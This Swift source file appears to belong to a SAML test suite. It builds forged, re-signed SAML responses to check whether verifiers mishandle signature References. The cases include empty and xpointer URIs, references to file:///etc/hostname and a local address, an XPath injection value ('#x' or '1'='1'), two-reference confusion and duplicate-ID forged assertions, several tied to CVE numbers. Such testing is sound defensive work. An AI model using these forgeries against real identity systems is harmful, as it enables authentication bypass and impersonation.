import SAML
import XMLSecurity

// References that name something else than the element the signature stands in. The honest key signs them all: only
// the form is wrong.
extension Attack {
    private static let forms = "samael, python3-saml response_without_reference_uri"
    private static let outside = "drawbridge"

    static let references: [Attack] = [
        uri("uri-empty", "The whole document (URI=\"\")", "引用整个文档（URI 为空）", "") { try $0.with($0.bare).text },
        uri("uri-missing", "No URI at all", "没有 URI", nil) { $0.bare },
        uri("uri-xpointer-root", "#xpointer(/)", "#xpointer(/)", "#xpointer(/)") { try $0.with($0.bare).text },
        uri("uri-xpointer-id", "#xpointer(id())", "#xpointer(id())", "#xpointer(id('_assertion'))") { $0.bare },
        uri("uri-element", "#element(/1/3)", "#element(/1/3)", "#element(/1/3)") { $0.bare },
        uri("uri-file", "A file", "引用文件", "file:///etc/hostname", forged: true) { _ in outside },
        uri("uri-http", "An address", "引用网址", "http://127.0.0.1:9/canary", forged: true) { _ in outside },
        response(
            31,
            "many-references",
            "Three hundred references",
            "三百个 Reference",
            "node-saml PR 595",
            [.reference]
        ) {
            try $0.resigned(draft: { $0.references = Array(repeating: $0.references[0], count: 300) })
        },
        response(
            34,
            "first-reference-only",
            "Two references, the second one wrong",
            "两个 Reference，第二个不符",
            "CVE-2026-33487",
            [.reference]
        ) { try twoReferences($0, wrongFirst: false) },
        response(
            34,
            "last-reference-only",
            "Two references, the first one wrong",
            "两个 Reference，第一个不符",
            "CVE-2026-33487",
            [.reference]
        ) { try twoReferences($0, wrongFirst: true) },
        response(
            35,
            "xpath-injection",
            "An XPath in the URI",
            "URI 中的 XPath 注入",
            "CVE-2026-9390",
            [.reference]
        ) { material in
            let parts = try material.parts()
            let root = try parts.with(parts.bare).text
            return try material.resigned(draft: { $0.references = [.init("#x' or '1'='1", over: root)] })
        },
        response(
            36,
            "duplicate-id",
            "Response and Assertion with the same ID",
            "Response 与 Assertion 的 ID 相同",
            "CVE-2026-9487",
            [.reference]
        ) {
            var surgery = Surgery(try $0.response().document($0.signer))
            try surgery.replace(" ID=\"\(HonestResponse.responseID)\"", with: " ID=\"\(HonestResponse.assertionID)\"")
            return surgery.octets
        },
        response(
            36,
            "duplicate-id-evil-first",
            "A forged assertion of the same ID in front",
            "前置 ID 相同的伪造断言",
            "CVE-2026-9487",
            [.structure, .reference]
        ) {
            let parts = try $0.parts()
            return try parts.with(parts.evil(id: HonestResponse.assertionID) + parts.assertion).octets
        },
        response(
            36,
            "duplicate-id-evil-last",
            "A forged assertion of the same ID behind",
            "后置 ID 相同的伪造断言",
            "CVE-2026-9487",
            [.structure, .reference]
        ) {
            let parts = try $0.parts()
            return try parts.with(parts.assertion + parts.evil(id: HonestResponse.assertionID)).octets
        },
    ]

    private static func uri(
        _ id: String,
        _ en: String,
        _ zh: String,
        _ uri: String?,
        forged: Bool = false,
        over target: @escaping @Sendable (Parts) throws -> String
    ) -> Attack {
        response(30, id, en, zh, forms, [.reference]) { material in
            let parts = try material.parts()
            let draft = SignatureDraft([.init(uri, over: try target(parts))])
            let bare = forged ? try parts.evil(id: HonestResponse.assertionID) : parts.bare
            return try parts.with(Parts.signed(bare, draft.signed(by: material.signer))).octets
        }
    }

    /// The signer signed the issuer of the response, too; the attacker changes the assertion.
    private static func twoReferences(_ material: AttackMaterial, wrongFirst: Bool) throws -> [UInt8] {
        let parts = try material.parts()
        let issuer = "<saml:Issuer xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\""
        let plain = "\(issuer)>\(material.identityProvider)</saml:Issuer>"
        let marked = "\(issuer) ID=\"_issuer\">\(material.identityProvider)</saml:Issuer>"
        let references = [
            SignatureDraft.Reference("#_issuer", over: marked),
            SignatureDraft.Reference("#" + HonestResponse.assertionID, over: parts.bare),
        ]
        let draft = SignatureDraft(wrongFirst ? references.reversed() : references)
        let evil = try parts.evil(id: HonestResponse.assertionID)
        var surgery = try parts.with(Parts.signed(evil, draft.signed(by: material.signer)))
        try surgery.replace(plain, with: marked)
        return surgery.octets
    }
}
